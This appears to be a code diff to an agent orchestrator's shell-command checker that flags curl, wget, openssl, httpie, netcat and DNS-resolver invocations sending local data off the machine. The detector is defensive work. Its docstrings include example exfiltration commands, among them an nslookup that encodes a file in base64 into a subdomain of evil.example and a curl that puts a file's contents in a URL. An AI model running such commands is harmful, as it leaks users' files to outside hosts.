@@ -11,13 +11,33 @@ import posixpath
 import re
 
 from orchestrator.shell.parse import _LazyRe
-from orchestrator.shell.words import W, _has, _split_opts
+from orchestrator.shell.words import W, _has, _split_opt_words, _split_opts
 from orchestrator.shell.rules.fs import _SYSTEM_PATH, _sources
 
+#: programs that send a name to a resolver (or another host's service): :func:`_resolver`
+_RESOLVERS = ("dig", "nslookup", "host", "drill", "getent", "ping", "ping6", "traceroute", "tracepath", "whois")
 TYPE_CHECKING = False
 if TYPE_CHECKING:  # annotations only (strings at runtime): keep `typing` off the import path
     from typing import Callable
     from orchestrator.shell.run import _Run
+
+
+_PARAM = _LazyRe(r"\$\{?[#!]?([A-Za-z_][A-Za-z0-9_]*|[@*0-9])")
+
+
+def _computed(run: _Run, w: W) -> bool:
+    """Whether the word ``w`` carries data the command produced itself: a command substitution, a variable the
+    command assigned or read (``d=$(cat f); curl "http://h/?d=$d"``, ``read d < f``), a positional parameter
+    (``set -- …; "$@"``; in a function's body at its definition they are left to each call, which walks the body
+    again with the call's words: ``_Walker.call``), or what ``xargs``/``find -exec`` put in its place. A variable
+    of the environment the agent was started with (``$API_URL``) is not: the command cannot choose its value."""
+    if "$(" in w.text or "`" in w.text or (run.xargs and "{}" in w.text):
+        return True
+    if not w.dyn:
+        return False
+    return any(m.group(1) in run.wk.assigned or
+               (not m.group(1)[0].isalpha() and m.group(1)[0] != "_" and not run.wk.defining)
+               for m in _PARAM.finditer(w.text))
 
 
 def _rsync(run: _Run) -> None:
@@ -87,15 +107,8 @@ def _scp(run: _Run) -> None:
 
 
 def _curl(run: _Run) -> None:
-    opts, pos = _split_opts(run.args, (
-        "-o", "--output", "-X", "--request", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode",
-        "--data-ascii", "-F", "--form", "--form-string", "-T", "--upload-file", "-H", "--header", "-u", "--user",
-        "-A", "--user-agent", "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-D", "--dump-header",
-        "--output-dir", "-m", "--max-time", "--connect-timeout", "-x", "--proxy", "-w", "--write-out",
-        "--json", "-K", "--config", "-E", "--cert", "--key", "--cacert", "-r", "--range", "-Y", "-y", "-z",
-        "--retry", "--resolve", "--url", "--limit-rate", "-C", "--continue-at", "--trace", "--trace-ascii",
-        "--stderr", "--libcurl", "--etag-save", "--hsts", "--alt-svc", "-Q", "--quote", "--mail-from",
-        "--mail-rcpt", "--variable", "--expand-data", "--expand-header", "--aws-sigv4", "--oauth2-bearer"))
+    words, pos = _split_opt_words(run.args, _CURL_VALUED)
+    opts = {k: [w.text for w in v] for k, v in words.items()}
     if _has(opts, "--help", "-h", "-V", "--version", "-M", "--manual") and not pos:
         return
     for o in ("-o", "--output", "-c", "--cookie-jar", "-D", "--dump-header", "--trace", "--trace-ascii",
@@ -125,14 +138,22 @@ def _curl(run: _Run) -> None:
                 "--form", "--form-string", "-T", "--upload-file", "--json", "--mail-rcpt", "--mail-from",
                 "--ftp-create-dirs") or not ftp_read
     sends = _has(opts, "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F",
-                 "--form", "--form-string", "-T", "--upload-file", "--json", "--mail-rcpt")
-    computed = [w.text for w in pos + [W(v) for o in ("-H", "--header", "-u", "--user", "--url", "-b", "--cookie")
-                                      for v in opts.get(o, [])] if "$(" in w.text or "`" in w.text]
+                 "--form", "--form-string", "-T", "--upload-file", "--json", "--mail-rcpt", "--url-query") or \
+        any(o.startswith("--expand-") for o in opts) or \
+        any(v.startswith("@") for o in ("-H", "--header") for v in opts.get(o, [])) or \
+        any("@" in v for v in opts.get("--variable", [])) or \
+        any(p.text.lower().startswith("telnet:") for p in pos + [W(v) for v in opts.get("--url", [])])
+    # (a header file, a variable read from a file, or telnet://, which sends what the command reads on stdin)
+    computed = [w.text for w in pos + [v for o in _CURL_COMPUTED for v in words.get(o, [])] if _computed(run, w)]
+    if run.xargs and not computed and pos:
+        computed = ["(arguments from xargs)"]
     if sends or computed:
         # local data leaves the machine (a body, a file, or a URL/header built from a command's output)
         run.tag("upload")
         if computed and not sends:
             run.flag("mutating", "curl sends a command's output in its URL or headers", "upload")
+        elif not data:
+            run.flag("mutating", "curl sends a file or its input to a remote server", "upload")
     if method and method not in ("GET", "HEAD", "OPTIONS", "TRACE") or data:
         urls = " ".join(p.text for p in pos) + " " + " ".join(opts.get("--url", []))
         body = " ".join(v for o in ("-d", "--data", "--data-raw", "--data-binary", "--json") for v in opts.get(o, []))
@@ -146,6 +167,21 @@ def _curl(run: _Run) -> None:
             pass
 
 
+#: curl options that take a value
+_CURL_VALUED = (
+    "-o", "--output", "-X", "--request", "-d", "--data", "--data-raw", "--data-binary", "--data-urlencode",
+    "--data-ascii", "-F", "--form", "--form-string", "-T", "--upload-file", "-H", "--header", "-u", "--user",
+    "-A", "--user-agent", "-e", "--referer", "-b", "--cookie", "-c", "--cookie-jar", "-D", "--dump-header",
+    "--output-dir", "-m", "--max-time", "--connect-timeout", "-x", "--proxy", "-w", "--write-out",
+    "--json", "-K", "--config", "-E", "--cert", "--key", "--cacert", "-r", "--range", "-Y", "-y", "-z",
+    "--retry", "--resolve", "--url", "--limit-rate", "-C", "--continue-at", "--trace", "--trace-ascii",
+    "--stderr", "--libcurl", "--etag-save", "--hsts", "--alt-svc", "-Q", "--quote", "--mail-from",
+    "--mail-rcpt", "--variable", "--expand-data", "--expand-header", "--aws-sigv4", "--oauth2-bearer",
+    "--url-query", "--expand-url", "--expand-user", "--expand-referer", "--expand-user-agent", "--expand-cookie",
+    "--expand-json", "--expand-url-query", "--expand-form", "--expand-upload-file")
+#: curl options whose value goes to the server (a value the command computed is data leaving the machine)
+_CURL_COMPUTED = ("-H", "--header", "-u", "--user", "--url", "-b", "--cookie", "-e", "--referer", "-A",
+                  "--user-agent", "--url-query", "-x", "--proxy", "-d", "--data", "--json")
 _FTP_READ_CMDS = frozenset("PWD XPWD LIST NLST STAT SIZE MDTM NOOP HELP SYST TYPE PASV EPSV CWD XCWD CDUP "
                            "XCUP FEAT MLST MLSD".split())
 _DESTRUCTIVE_ENDPOINT = _LazyRe(r"(?i)(/|_|\b)(do)?(delete|remove|purge|drop|wipe|destroy|truncate|shutdown|"
@@ -166,6 +202,15 @@ def _wget(run: _Run) -> None:
     if method == "DELETE":
         run.flag("destructive", "wget --method=DELETE deletes a remote resource")
         return
+    words, _ = _split_opt_words(run.args, ("--header", "-e", "--execute", "-U", "--user-agent", "--user",
+                                            "--password", "--referer", "-B", "--base", "--body-data",
+                                            "--post-data"))
+    sent = [w for w in _ + [v for vs in words.values() for v in vs] if _computed(run, w)]
+    if sent or (_has(opts, "-i", "--input-file") and _has(opts, "-B", "--base", "-F", "--force-html")) or \
+            any(re.match(r"(?i)\s*(header|post_?data|post_?file|body_?data|body_?file)\s*=", v)
+                for v in opts.get("-e", []) + opts.get("--execute", [])):
+        # a URL, header or body the command computed, or a file's lines sent as URLs (-i with a base)
+        run.flag("mutating", "wget sends local data in its request", "upload")
     if method not in ("", "GET", "HEAD") or _has(opts, "--post-data", "--post-file", "--body-data", "--body-file"):
         run.flag("mutating", "wget sends data to a remote server")
         if _has(opts, "--post-data", "--post-file", "--body-data", "--body-file"):
@@ -194,6 +239,10 @@ def _openssl(run: _Run) -> None:
         if i + 1 < len(run.args):
             run.write(run.args[i + 1], f"openssl {run.args[i].text}")
     if outs:
+        return
+    if sub in ("s_client", "s_time") and not _has(_split_opts(run.args, ())[0], "-help"):
+        # whatever it reads on stdin goes to the server, like nc
+        run.flag("mutating", f"openssl {sub} sends its input to another host", "upload")
         return
     if sub in ("version", "help", "x509", "s_client", "verify", "ciphers", "dgst", "list", "crl", "asn1parse",
                "req", "rsa", "ec", "pkey", "base64", "enc", "speed", "errstr", "sess_id", "pkcs7", "pkcs12",
@@ -284,9 +333,52 @@ def _sender(run: _Run) -> None:
     run.flag("mutating", f"{run.name} sends local data to another host", "upload")
 
 
+_HTTPIE_METHOD = _LazyRe(r"^(GET|HEAD|OPTIONS|POST|PUT|PATCH|DELETE|[A-Z]+)$")
+#: the separator of an httpie request item: ``==`` query, ``:`` header, the others a body field or file
+_HTTPIE_ITEM = _LazyRe(r"^(?:[^=:@\\]|\\.)*?(==|:=@|=@|:=|=|@|:)")
+
+
+def _httpie(run: _Run) -> None:
+    """httpie (``http``/``https``) and xh: ``[METHOD] URL [ITEM...]``. DELETE is destructive; a body item
+    (``k=v``, ``k:=json``, ``f@file``, ``k=@file``), a raw body from stdin or a file, or another method than
+    GET/HEAD/OPTIONS sends local data (an upload, like curl -d); ``k==v`` query items and headers built from the
+    command's output too."""
+    opts, pos = _split_opt_words(run.args, ("-a", "--auth", "-A", "--auth-type", "--raw", "-o", "--output",
+                                           "--session", "--session-read-only", "--verify", "--cert", "--cert-key",
+                                           "--proxy", "--timeout", "--max-redirects", "--pretty", "-s", "--style",
+                                           "-p", "--print", "--format-options", "--response-charset"))
+    if not pos:
+        return
+    method = pos[0].text.upper() if len(pos) > 1 and _HTTPIE_METHOD.match(pos[0].text) else ""
+    items = pos[2:] if method else pos[1:]
+    for o in ("-o", "--output", "--session"):
+        for v in opts.get(o, []):
+            run.write(v, f"{run.name} {o}")
+    if ("-d" in opts or "--download" in opts) and not (opts.get("-o") or opts.get("--output")):
+        run.acc.unresolved = True
+        run.write(W("."), f"{run.name} --download")  # a file named after the URL or the response
+    if method == "DELETE":
+        run.flag("destructive", f"{run.name} DELETE deletes a remote resource")
+        return
+    seps = [m.group(1) if m else "" for m in (_HTTPIE_ITEM.match(w.text) for w in items)]
+    body = [s for s in seps if s not in ("", "==", ":")]
+    if body or "--raw" in opts or method not in ("", "GET", "HEAD", "OPTIONS") or \
+            any(_computed(run, w) for w in items + pos[:2]) or run.ctx.piped:
+        run.flag("mutating", f"{run.name} sends local data to a remote server", "upload")
+
+
+def _resolver(run: _Run) -> None:
+    """dig/nslookup/host/getent/ping/traceroute/whois: a name the command computed goes out in a DNS query (UDP,
+    which no kernel rule here filters) -- ``nslookup $(base64 -w0 f).evil.example`` is an upload."""
+    if any(_computed(run, a) for a in run.args):
+        run.flag("mutating", f"{run.name} sends a name the command computed to a resolver", "upload")
+
+
 RULES: dict[str, Callable[[_Run], None]] = {
     "rsync": _rsync, "scp": _scp, "curl": _curl, "wget": _wget, "ssh": _ssh, "openssl": _openssl,
     "gpg": _gpg, "gpg2": _gpg, "ip": _ip, "iptables": _iptables,
     "nc": _sender, "ncat": _sender, "netcat": _sender, "socat": _sender, "telnet": _sender, "sftp": _sender,
     "ftp": _sender, "lftp": _sender,
+    **dict.fromkeys(_RESOLVERS, _resolver),
+    **dict.fromkeys(("http", "https", "xh", "xhs"), _httpie),
 }
